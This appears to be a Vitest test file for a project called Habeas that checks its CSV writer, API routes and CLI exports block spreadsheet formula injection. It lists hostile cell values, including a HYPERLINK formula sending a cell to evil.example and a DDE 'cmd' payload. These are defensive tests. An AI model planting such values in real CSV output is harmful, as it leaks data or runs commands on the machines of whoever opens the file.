/**
 * Every CSV Habeas writes is safe to open in a spreadsheet: no cell starts a formula. An
 * outside test found `/api/audit.csv` passing a leading `-` (a refused username `-2+3` reached
 * the reviewers' download as a formula) and `habeas export --format csv` writing report titles
 * such as `=HYPERLINK(...)` as they were. One writer (src/core/csv.ts, over csv-stringify) now
 * guards every cell of every CSV output: the audit log through the API and the CLI, the ledger
 * export (published and --all), the list downloads (format=csv) the web app links to. The guard comes off again on
 * import, so a ledger still round-trips through CSV exactly.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readSampleLedger } from '../../src/adapters/sample-ledger.ts';
import type { AppContext } from '../../src/app/context.ts';
import { listCsv } from '../../src/app/transfer/list-csv.ts';
import { main } from '../../src/cli/main.ts';
import { csvCellValue, csvLine, parseCsv } from '../../src/core/csv.ts';
import type { Claim } from '../../src/core/model/claim.ts';
import type { LedgerDump } from '../../src/core/model/dump.ts';
import { checkPropertyValue } from '../../src/core/model/properties.ts';
import { signIn } from '../support/auth.ts';
import { cliBackends } from '../support/cli-databases.ts';
import { backends } from '../support/databases.ts';
import { captureIo } from '../support/io.ts';
import { ledgerApp } from '../support/ledger-app.ts';

/** What a spreadsheet reads as the start of a formula (OWASP), full-width forms included. */
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "-2+3+cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  "'=already quoted",
  "''",
];

/** Cells of a CSV text that a spreadsheet would run. */
function formulaCells(csv: string): string[] {
  return parseCsv(csv)
    .flat()
    .filter((c) => formulaStart.test(c));
}

const at = '2025-01-01T00:00:00.000Z';
const claim = (id: string, property: string, value: unknown) => ({
  id,
  subjectId: 'per_csv',
  subjectType: 'person',
  property,
  value,
  sourceId: 'src_csv',
  evidence: null,
  author: { kind: 'import', name: 'test' },
  createdAt: at,
  confidence: 1,
  initialState: 'accepted',
  supersedes: null,
});

/** A ledger whose every kind of text (title, publisher, name, occupations, a note) is hostile. */
const ledger = {
  format: 'habeas-ledger',
  version: 1,
  sources: [
    {
      id: 'src_csv',
      url: 'https://news.example/csv',
      title: hostile[0],
      publisher: hostile[2],
      publishedAt: '2025-01-01',
      language: 'en',
      contentHash: 'hash-csv-1',
      text: `${hostile[1]} was freed.`,
      ingestedAt: at,
      duplicateOf: null,
    },
  ],
  entities: [{ id: 'per_csv', type: 'person', createdAt: at }],
  claims: [
    claim('clm_csv_name', 'name', {
      type: 'name',
      name: { value: hostile[1], script: 'latin', language: null, kind: 'press' },
    }),
    ...hostile
      .slice(2)
      .map((text, i) => claim(`clm_csv_${i}`, 'occupation', { type: 'text', text })),
  ],
  reviews: [
    {
      id: 'rev_csv',
      claimId: 'clm_csv_name',
      state: 'accepted',
      author: { kind: 'import', name: 'test' },
      at,
      note: hostile[3],
    },
  ],
};

describe('the CSV writer', () => {
  it('guards every formula start and reads every cell back exactly', () => {
    const line = csvLine([...hostile, 'plain', 'a,b', 'say "so"', 'two\nlines', '']);
    expect(formulaCells(line)).toEqual([]);
    const cells = parseCsv(line)[0]?.map(csvCellValue);
    expect(cells).toEqual([...hostile, 'plain', 'a,b', 'say "so"', 'two\nlines', '']);
    // A number given as a number is no formula; the same characters as text are guarded.
    expect(csvLine([-5, '-5'])).toBe("-5,'-5\r\n");
  });

  it('guards the list downloads', async () => {
    const names = {
      columns: ['name', 'n'],
      rows: (name: string) => [[name, hostile.indexOf(name)]],
    };
    const download = await listCsv(
      names,
      async (offset, limit) => ({
        items: hostile.slice(offset, offset + limit),
        total: hostile.length,
      }),
      { offset: 0 },
    );
    let csv = '';
    for await (const line of download.lines) csv += line;
    expect(formulaCells(csv)).toEqual([]);
    expect(parseCsv(csv).map((row) => csvCellValue(row[0] ?? ''))).toEqual(['name', ...hostile]);
  });
});

describe.each(backends())('the audit log CSV of the API on $name', (backend) => {
  let ctx: AppContext;
  let app: FastifyInstance;
  beforeAll(async () => {
    ({ ctx, app } = await ledgerApp(backend, ledger));
  });
  afterAll(async () => {
    await app?.close();
    await ctx?.db.close();
  });

  it('answers no cell a spreadsheet would run, refused usernames included', async () => {
    for (const username of ['-2+3', '=1+1', '@cmd'])
      await app.inject({
        method: 'POST',
        url: '/api/auth/login',
        remoteAddress: '10.40.0.1',
        payload: { username, password: 'a wrong guess' },
      });
    const reviewer = await signIn(app, ctx, 'reviewer');
    for (const url of ['/api/audit.csv', '/api/audit?format=csv']) {
      const r = await app.inject({ method: 'GET', url, headers: reviewer });
      expect(r.statusCode).toBe(200);
      expect(r.body).toContain("'-2+3");
      expect(formulaCells(r.body)).toEqual([]);
    }
  });
});

/**
 * The sample ledger with every free text a CSV can show starting a formula: titles, names,
 * occupations, descriptions, destinations, attributions, publishers (each value the property
 * schema still takes; countries stay, the routes filter by them).
 */
async function hostileSample(): Promise<LedgerDump> {
  const sample = (await readSampleLedger()) as LedgerDump;
  let n = 0;
  const next = (text: string) => `${['=', '+', '-', '@', '\t', '\r', '\uFF1D'][n++ % 7]}${text}`;
  const hostileValue = (c: Claim): Claim['value'] => {
    if (c.property === 'country') return c.value;
    const value =
      c.value.type === 'text'
        ? { ...c.value, text: next(c.value.text) }
        : c.value.type === 'name'
          ? { ...c.value, name: { ...c.value.name, value: next(c.value.name.value) } }
          : c.value;
    try {
      checkPropertyValue(c.subjectType, c.property, value);
      return value;
    } catch {
      return c.value;
    }
  };
  return {
    ...sample,
    sources: sample.sources.map((x) => ({
      ...x,
      title: x.title && next(x.title),
      publisher: x.publisher && next(x.publisher),
    })),
    claims: sample.claims.map((c) => ({ ...c, value: hostileValue(c) })),
  };
}

describe.each(backends())('every CSV the API answers on $name', (backend) => {
  let ctx: AppContext;
  let app: FastifyInstance;
  beforeAll(async () => {
    ({ ctx, app } = await ledgerApp(backend, await hostileSample()));
    await app.ready();
  }, 120_000);
  afterAll(async () => {
    await app?.close();
    await ctx?.db.close();
  });

  it('guards every cell of every CSV route, for the public and for staff', async () => {
    // The routes answering text/csv, from the OpenAPI document: a new one is checked as added.
    type Op = {
      security?: unknown[];
      parameters?: Array<{ in: string; name: string; required?: boolean }>;
      responses?: Record<string, { content?: Record<string, unknown> }>;
    };
    const doc = (
      app as unknown as { swagger(): { paths: Record<string, { get?: Op }> } }
    ).swagger();
    const fill: Record<string, string> = { country: 'BY', from: '2024-01', to: '2025-12' };
    const routes = Object.entries(doc.paths).flatMap(([path, ops]) => {
      const op = ops.get;
      if (!op?.responses?.['200']?.content?.['text/csv']) return [];
      const query = new URLSearchParams({ format: 'csv' });
      for (const p of op.parameters ?? [])
        if (p.in === 'query' && p.required) query.set(p.name, fill[p.name] ?? 'x');
      const list = (op.parameters ?? []).some((p) => p.name === 'limit');
      return [{ url: `${path}?${query}`, list, open: JSON.stringify(op.security?.[0]) === '{}' }];
    });
    expect(routes.map((r) => r.url.split('?')[0]).sort()).toEqual([
      '/api/counts/flow',
      '/api/counts/series',
      '/api/deals',
      '/api/persons/filter',
      '/api/releases',
      '/api/sources',
      '/api/sources/search',
    ]);
    const staff = await signIn(app, ctx, 'reviewer');
    const asked = [
      ...routes.flatMap((r) => [
        { ...r, headers: staff },
        ...(r.open ? [{ ...r, headers: {} }] : []),
      ]),
      { url: '/api/audit.csv', list: true, headers: staff },
      { url: '/api/audit?format=csv', list: true, headers: staff },
      { url: '/api/releases', list: true, headers: { accept: 'text/csv' } },
    ];
    const found: string[] = [];
    for (const { url, list, headers } of asked) {
      const r = await app.inject({ method: 'GET', url, headers });
      const what = `${url} ${'cookie' in headers ? 'staff' : 'public'}`;
      expect(r.statusCode, what).toBe(200);
      expect(r.headers['content-type'], what).toContain('text/csv');
      if (formulaCells(r.body).length) found.push(`${what}: ${formulaCells(r.body)[0]}`);
      // The lists show the hostile texts, guarded (the counts hold numbers and months only).
      const guarded = parseCsv(r.body)
        .flat()
        .some((c) => /^'[=+\-@\t\r\uFF1D]/.test(c));
      if (list && !url.startsWith('/api/audit') && !guarded) found.push(`${what}: no hostile cell`);
    }
    expect(found).toEqual([]);
  });
});

describe.each(cliBackends())('CSV written by the CLI on $name', (backend) => {
  afterAll(() => backend.cleanup());
  const dir = mkdtempSync(join(tmpdir(), 'habeas-csv-'));

  async function run(env: NodeJS.ProcessEnv, ...argv: string[]) {
    const io = captureIo('', env, dir);
    const code = await main(argv, io);
    return { code, out: io.stdout(), err: io.stderr() };
  }

  it('exports the ledger (published and --all) and the audit log with no formula, and imports it back exactly', async () => {
    const env = await backend.fresh();
    writeFileSync(join(dir, 'ledger.json'), JSON.stringify(ledger));
    expect((await run(env, 'import', join(dir, 'ledger.json'))).code).toBe(0);
    const published = await run(env, 'export', '--format', 'csv');
    const all = await run(env, 'export', '--all', '--format', 'csv');
    const audit = await run(env, 'audit', '--format', 'csv');
    for (const { code, out } of [published, all, audit]) {
      expect(code).toBe(0);
      expect(formulaCells(out)).toEqual([]);
    }
    expect(published.out).toContain(`"'=HYPERLINK(`);
    expect(published.out).toContain("'-2+3+cmd|' /C calc'!A0");

    // The guard comes off on import: the same ledger, exported again, is the same file.
    const again = await backend.fresh();
    writeFileSync(join(dir, 'all.csv'), all.out);
    expect((await run(again, 'import', join(dir, 'all.csv'))).code).toBe(0);
    expect((await run(again, 'export', '--all', '--format', 'csv')).out).toBe(all.out);
    const json = JSON.parse((await run(again, 'export', '--all')).out);
    expect(json.sources[0].title).toBe(hostile[0]);
    expect(json.claims.map((c: { value: { text?: string } }) => c.value.text)).toEqual(
      expect.arrayContaining(hostile.slice(2)),
    );
    expect(json.reviews[0].note).toBe(hostile[3]);
  });
});
